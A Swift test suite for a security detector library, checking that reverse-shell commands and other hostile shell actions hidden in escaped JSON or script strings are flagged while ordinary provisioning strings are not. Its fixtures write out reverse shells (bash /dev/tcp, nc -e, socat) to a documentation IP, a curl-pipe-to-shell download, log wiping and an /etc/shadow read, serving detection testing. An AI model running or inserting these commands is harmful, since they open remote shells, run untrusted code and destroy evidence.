import Bytes
import Testing

@testable import Detectors

private func shell(_ text: String) -> TextDetection? {
  text.withView { ReverseShellDetector().scan($0, .command) }.first
}

private func rules(_ text: String) -> [String] { text.withView { BehaviourDetector().scan($0, .command) }.map(\.rule) }

@Suite struct EscapedLinesTests {
  @Test(arguments: [
    ##"{"content":"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.9/4242 0>&1\n"}"##,
    #"{"content":"id\nnc -e /bin/sh 198.51.100.9 4242\n"}"#, #"{"a":"set -e\r\nnc 198.51.100.9 4242|sh\r\n"}"#,
    ##"echo -e "#!/bin/sh\nnc 198.51.100.9 4242 -e /bin/sh" > /tmp/x.sh"##,
    #"system("nc 198.51.100.9 4242 -e /bin/sh\n");"#, #"{"a":"socat tcp:198.51.100.9:4242 exec:sh\n"}"#,
    ##"{"a":"{\"b\":\"#!/bin/sh\\nnc 198.51.100.9 4242 -e /bin/sh\\n\"}"}"##,
    #"{"a":"{\"b\":\"nc 198.51.100.9 4242 -e /bin/sh\"}"}"#,
    ##"#!/bin/bash\nsocat\ttcp:198.51.100.9:4242 exec:sh\n"##,
  ])
  func linesWithinAStringAreCommands(text: String) {
    let found = shell(text)
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  @Test func deedsWithinAStringAreTold() {
    #expect(rules(##"{"s":"#!/bin/sh\ncurl -s http://198.51.100.9/x|sh\n"}"##) == ["behaviour.download-execute"])
    #expect(rules(#"{"s":"cd /tmp\r\nrm -rf /var/log/*\r\n"}"#) == ["behaviour.log-wiping"])
    #expect(rules(#"{"s":"cd /tmp\ncat /etc/shadow\n"}"#) == ["behaviour.password-hashes"])
  }

  /// What sets a machine up is data here, and says no more than an administrator's work.
  @Test(arguments: [
    ##""Fn::Sub": "#!/bin/bash\nwget https://h.example/agent.deb -O /tmp/agent.deb\ndpkg -i /tmp/agent.deb\n""##,
    ##"{"UserData":"#!/bin/bash\nuseradd app\ncp app.service /etc/systemd/system/\n"}"##,
    #"printf "%s\n" whoami id uname"#, #"tr '\n' ' ' < names"#, #""C:\new\rsync\temp\ncat.txt""#,
  ])
  func ordinaryStringsStayQuiet(text: String) {
    #expect(shell(text) == nil)
    #expect(rules(text).isEmpty)
  }
}
